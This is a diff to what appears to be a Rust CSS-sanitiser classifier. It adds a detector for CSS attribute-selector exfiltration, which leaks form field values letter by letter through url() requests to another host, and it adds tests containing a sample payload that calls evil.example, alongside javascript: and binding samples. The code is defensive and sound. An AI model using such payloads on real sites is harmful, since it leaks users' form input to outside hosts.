@@ -77,6 +77,7 @@ fn read(style: &[u8], has_strings: bool) -> Option<Style> {
         || has(b"javascript:")
         || has(b"vbscript:")
         || has(b"url(data:text/html")
+        || tells_values(plain)
     {
         return Some(Style::Runs);
     }
@@ -99,6 +100,21 @@ fn read(style: &[u8], has_strings: bool) -> Option<Style> {
         of_fonts &= is_of_fonts(address);
     }
     is_one.then_some(if of_fonts { Style::ImportsFont } else { Style::Imports })
+}
+
+/// `input[value^=a]{background:url(//host/a)}`: what a field holds is asked letter by letter, and another host is told.
+fn tells_values(plain: &[u8]) -> bool {
+    memchr::memmem::find_iter(plain, b"[value").take(16).any(|at| {
+        let rest = &plain[at + 6..];
+        let Some((b'^' | b'*' | b'$', rest)) = rest.split_first() else { return false };
+        let Some(open) = memchr::memchr(b'{', rest).filter(|_| rest.starts_with(b"=")) else { return false };
+        let rule = &rest[open..memchr::memchr(b'}', rest).map_or(rest.len(), |end| end.max(open))];
+        memchr::memmem::find_iter(rule, b"url(").any(|at| {
+            let address = &rule[at + 4..];
+            let address = address.strip_prefix(b"'").or(address.strip_prefix(b"\"")).unwrap_or(address);
+            [&b"//"[..], b"http:", b"https:"].iter().any(|start| address.starts_with(start))
+        })
+    })
 }
 
 /// `https://fonts.example.com/css2?family=a`: a family is asked of a host that is named for fonts.
@@ -130,6 +146,7 @@ mod tests {
             "-moz-binding:url(x)",
             "binding: url('http://a.example/x.html')",
             "background:url('javascript:alert(1)')",
+            "input[value ^= a]{background:url(//evil.example/a)}",
         ] {
             assert_eq!(style(runs.as_bytes()), Some(Style::Runs), "{runs}");
         }
@@ -143,5 +160,9 @@ mod tests {
         assert_eq!(style(b"content: \"\\f101 \\201C \\41\""), None);
         assert_eq!(style(b"color: red; background: url(\"/img/x.png\") /* expression( */"), None);
         assert_eq!(style(b"scroll-behavior: smooth"), None);
+        assert_eq!(
+            style(b"a[href^=http]{background:url(https://a.example/x.png)} [value='1']{color:red}"),
+            None
+        );
     }
 }
